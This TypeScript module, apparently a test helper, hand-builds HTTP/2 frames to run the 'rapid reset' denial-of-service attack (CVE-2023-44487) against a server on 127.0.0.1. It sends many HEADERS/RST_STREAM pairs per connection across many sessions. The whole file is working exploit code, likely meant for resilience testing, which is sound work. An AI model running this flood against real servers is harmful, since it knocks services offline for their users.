/**
 * HTTP/2 frames written by hand, for what node:http2's client will not send: the "rapid reset" attack
 * (CVE-2023-44487), a HEADERS frame and a RST_STREAM for the same stream in one packet, many at a time.
 */
import tls from 'node:tls';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** HPACK (RFC 7541 §6.2.2) literal without indexing, its name from the static table. */
const literal = (nameIndex: number, value: string) =>
  Buffer.concat([Buffer.from([nameIndex, value.length]), Buffer.from(value, 'latin1')]);

/**
 * Opens `sessions` TLS connections (ALPN h2) and on each sends `streams` requests for `path`, each
 * HEADERS (END_STREAM) followed at once by RST_STREAM (CANCEL), 50 pairs per write; then GOAWAY. Resolves
 * once every connection has closed.
 */
export async function rapidReset(
  port: number,
  sessions: number,
  streams: number,
  path: string,
): Promise<void> {
  // :method GET (static 2), :scheme https (7), :path (4) and :authority (1) as literals.
  const headers = Buffer.concat([Buffer.from([0x82, 0x87]), literal(0x04, path), literal(0x01, 'localhost')]);
  const cancel = Buffer.alloc(4);
  cancel.writeUInt32BE(0x8);
  const one = () =>
    new Promise<void>((resolve) => {
      const socket = tls.connect(
        { port, host: '127.0.0.1', ALPNProtocols: ['h2'], rejectUnauthorized: false },
        () => {
          const settings = frame(0x4, 0, 0, Buffer.alloc(0));
          const ack = frame(0x4, 0x1, 0, Buffer.alloc(0));
          socket.write(Buffer.concat([PREFACE, settings, ack]));
          for (let at = 0; at < streams; at += 50) {
            const parts: Buffer[] = [];
            for (let i = at; i < Math.min(streams, at + 50); i++) {
              const id = 2 * i + 1;
              parts.push(frame(0x1, 0x5, id, headers), frame(0x3, 0, id, cancel));
            }
            socket.write(Buffer.concat(parts));
          }
          socket.end(frame(0x7, 0, 0, Buffer.alloc(8)));
        },
      );
      socket.on('data', () => {});
      socket.on('error', () => {});
      socket.on('close', () => resolve());
    });
  await Promise.all(Array.from({ length: sessions }, one));
}
